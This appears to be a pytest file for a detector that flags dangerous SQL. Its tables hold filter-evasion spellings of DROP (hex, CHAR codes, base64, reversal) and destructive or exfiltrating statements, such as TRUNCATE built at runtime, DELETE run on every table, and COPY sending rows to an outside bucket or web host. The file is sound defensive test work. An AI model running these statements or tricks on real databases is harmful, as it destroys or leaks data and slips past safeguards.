import pytest

from stopper.detect.effects import is_dangerous
from stopper.detect.sql import judge_sql
from stopper.detect.sqltexts import resolve

SPELLED = {
    # what is tried    SQL                                                     what it says
    "glued":           ("exec('DR'+'OP')",                                     "exec('DROP')"),
    "concatenated":    ("a = CONCAT('DR', 'OP')",                              "a = 'DROP'"),
    "hexadecimal":     ("a = CAST(0x44524f50 AS varchar(max))",                "a = 'DROP'"),
    "unhexed":         ("a = CONVERT(UNHEX('44524F50') USING utf8mb4)",        "a = 'DROP'"),
    "codes":           ("a = CHAR(68)+CHAR(82)+CHAR(79,80)",                   "a = 'DROP'"),
    "turned round":    ("a = REVERSE('PORD')",                                 "a = 'DROP'"),
    "replaced":        ("a = REPLACE('DXROP', 'X', '')",                       "a = 'DROP'"),
    "base64":          ("a = FROM_BASE64('RFJPUA==')",                         "a = 'DROP'"),
    "a column":        ("select concat(a, b) from c",                          "select concat(a, b) from c"),
}  # fmt: skip
RUN = {
    # what is tried              SQL                                                          dangerous
    "run as it is written":      ("EXEC sp_executesql N'SELECT 1'",                            False),
    "run as a variable":         ("EXEC(@c)",                                                  True),
    "prepared as written":       ("PREPARE s FROM 'SELECT ?'; EXECUTE s",                      False),
    "prepared as it is made":    ("SET @q = CONCAT('TRUN','CATE a'); PREPARE s FROM @q",       True),
    "made by a query":           ("SELECT format('TRUNCATE %I', a) FROM b \\gexec",            True),
    "a database by a query":     ("SELECT 'CREATE DATABASE a' \\gexec",                        False),
    "for each table":            ("EXEC sp_MSforeachtable 'DELETE FROM ?'",                    True),
    "a table that keeps nothing": ("ALTER TABLE a ENGINE=BLACKHOLE",                           True),
    "what no parser writes":     ("ALTER TABLE a.b DROP PARTITION ID 'all'",                   True),
    "rows for a stranger":       ("COPY INTO 's3://outside-drop/a' FROM b",                    True),
    "rows for oneself":          ("COPY INTO 's3://acme-dev/a' FROM b",                        False),
    "rows for the net":          ("COPY (SELECT 1) TO 'https://intake.example.net/a'",         True),
}  # fmt: skip


@pytest.mark.parametrize(("text", "spelled"), SPELLED.values(), ids=SPELLED)
def test_spelling(text: str, spelled: str) -> None:
    """Each row becomes the text in its last column."""
    assert resolve(text) == spelled


@pytest.mark.parametrize(("text", "dangerous"), RUN.values(), ids=RUN)
def test_what_is_run(text: str, dangerous: bool) -> None:
    """A person looks at exactly the rows whose last column says so."""
    assert is_dangerous(judge_sql(text)) is dangerous
